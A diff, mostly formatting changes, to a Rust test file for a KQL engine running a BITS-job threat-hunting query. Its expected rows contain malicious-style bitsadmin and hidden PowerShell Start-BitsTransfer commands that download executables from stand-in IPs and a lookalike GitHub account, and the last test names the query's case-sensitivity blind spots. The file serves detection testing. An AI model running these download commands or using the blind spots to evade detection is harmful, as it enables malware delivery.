@@ -19,7 +19,10 @@ const NOW: i64 = 1_795_780_800_000_000_000;
 fn engine(allow_missing_columns: bool) -> (Engine, String) {
     let bits = workspace().join("queries/bits");
     let query = std::fs::read_to_string(bits.join("bits_jobs.kql")).unwrap();
-    let options = Options { now: Some(NOW), allow_missing_columns };
+    let options = Options {
+        now: Some(NOW),
+        allow_missing_columns,
+    };
     let mut engine = Engine::new().with_options(options);
     for table in ["SecurityEvent", "DeviceProcessEvents", "DeviceEvents"] {
         let path = bits.join("sample").join(format!("{table}.csv"));
@@ -51,7 +54,9 @@ fn the_seed_query_is_the_seed_byte_for_byte() {
 fn strict_mode_rejects_process_command_line_2_like_kusto() {
     let (engine, query) = engine(false);
     let error = engine.run(&query).unwrap_err();
-    let Error::Query(diagnostics) = error else { panic!("expected a query error") };
+    let Error::Query(diagnostics) = error else {
+        panic!("expected a query error")
+    };
     assert_eq!(diagnostics.len(), 1, "{diagnostics:?}");
     let diagnostic = &diagnostics[0];
     assert_eq!(diagnostic.kind, DiagnosticKind::Semantic);
@@ -73,7 +78,11 @@ fn check_reports_the_same_error_without_data() {
     let query = std::fs::read_to_string(workspace().join("queries/bits/bits_jobs.kql")).unwrap();
     let error = Engine::new().check(&query).unwrap_err();
     assert_eq!(error.diagnostics().len(), 1);
-    assert!(error.diagnostics()[0].message.contains("`ProcessCommandLine2`"));
+    assert!(
+        error.diagnostics()[0]
+            .message
+            .contains("`ProcessCommandLine2`")
+    );
 }
 
 #[test]
@@ -111,41 +120,78 @@ fn permissive_mode_returns_the_predicted_rows() {
     let expected = expect(&[
         // Two SecurityEvent rows share one time: each joins the DeviceProcessEvents row and
         // then the DeviceEvents row of that time.
-        &[t0, t0, t0, "ws-fin-07.contoso.local", "WS-FIN-07.contoso.local", "jdoe", jdoe_cmd],
-        &[t0, t0, t0, "ws-fin-07.contoso.local", "WS-FIN-07.contoso.local", "jdoe", &jdoe_cmd_wrapped],
+        &[
+            t0,
+            t0,
+            t0,
+            "ws-fin-07.contoso.local",
+            "WS-FIN-07.contoso.local",
+            "jdoe",
+            jdoe_cmd,
+        ],
+        &[
+            t0,
+            t0,
+            t0,
+            "ws-fin-07.contoso.local",
+            "WS-FIN-07.contoso.local",
+            "jdoe",
+            &jdoe_cmd_wrapped,
+        ],
         // `^` obfuscation removed; SecurityEvent only, so DeviceName falls back to Computer.
         &[
-            "2026-11-22T17:41:55.08Z", "null", "null", "SRV-APP-02.contoso.local",
-            "SRV-APP-02.contoso.local", "svc_build",
+            "2026-11-22T17:41:55.08Z",
+            "null",
+            "null",
+            "SRV-APP-02.contoso.local",
+            "SRV-APP-02.contoso.local",
+            "svc_build",
             "cmd.exe /c bitsadmin /transfer /download http://198.51.100.23/p.exe TEMP\\p.exe",
         ],
         // Exactly 90 days old: kept (`>=`).
         &[
-            "2026-08-29T12:00:00Z", "null", "null", "SRV-APP-02.contoso.local",
-            "SRV-APP-02.contoso.local", "svc_build",
+            "2026-08-29T12:00:00Z",
+            "null",
+            "null",
+            "SRV-APP-02.contoso.local",
+            "SRV-APP-02.contoso.local",
+            "svc_build",
             "bitsadmin /transfer Packages /download /priority foreground \
              https://github.com/supportgoogle34/files/raw/main/winfiles.zip winfiles.zip",
         ],
         // DeviceProcessEvents only: the left TimeGenerated is null, coalesce takes the right.
         &[
-            "2026-11-21T13:22:47.9Z", "2026-11-21T13:22:47.9Z", "null", "ws-dev-11.contoso.local",
-            "", "mlee",
+            "2026-11-21T13:22:47.9Z",
+            "2026-11-21T13:22:47.9Z",
+            "null",
+            "ws-dev-11.contoso.local",
+            "",
+            "mlee",
             "powershell.exe -nop -c Start-BitsTransfer -Priority foreground -source \
              https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/Payloads/CradleTest.txt \
              -destination C:\\Users\\Public\\c.txt",
         ],
         // `"` and `+` removed; matched through `Asynchronous ` although `-Source` is missed.
         &[
-            "2026-11-22T02:47:31.0000001Z", "2026-11-22T02:47:31.0000001Z", "null",
-            "srv-app-02.contoso.local", "", "svc_build",
+            "2026-11-22T02:47:31.0000001Z",
+            "2026-11-22T02:47:31.0000001Z",
+            "null",
+            "srv-app-02.contoso.local",
+            "",
+            "svc_build",
             "powershell -w hidden -c Start-BitsTransfer -Source http://203.0.113.9/s.exe \
              -Destination env:TEMP\\s.exe -Asynchronous -Priority low",
         ],
         // DeviceEvents only, matched on the initiating command line after `$` removal; it
         // cannot join the DeviceProcessEvents-only rows (their left time is null).
         &[
-            "2026-11-26T21:10:44.3Z", "null", "2026-11-26T21:10:44.3Z", "ws-hr-03.contoso.local",
-            "", "asmith", "",
+            "2026-11-26T21:10:44.3Z",
+            "null",
+            "2026-11-26T21:10:44.3Z",
+            "ws-hr-03.contoso.local",
+            "",
+            "asmith",
+            "",
         ],
     ]);
     assert_eq!(got, expected);
@@ -153,7 +199,9 @@ fn permissive_mode_returns_the_predicted_rows() {
 
 #[test]
 fn case_sensitive_patterns_miss_capitalised_spellings() {
-    let table = run_permissive("\n| where Deobf_CommandLine has_cs 'BItSAdMIN' or Deobf_CommandLine has 'Nubeva-RN-Sensor.msi'");
+    let table = run_permissive(
+        "\n| where Deobf_CommandLine has_cs 'BItSAdMIN' or Deobf_CommandLine has 'Nubeva-RN-Sensor.msi'",
+    );
     assert_eq!(table.num_rows(), 0, "documented blind spots of the hunt");
 }
 
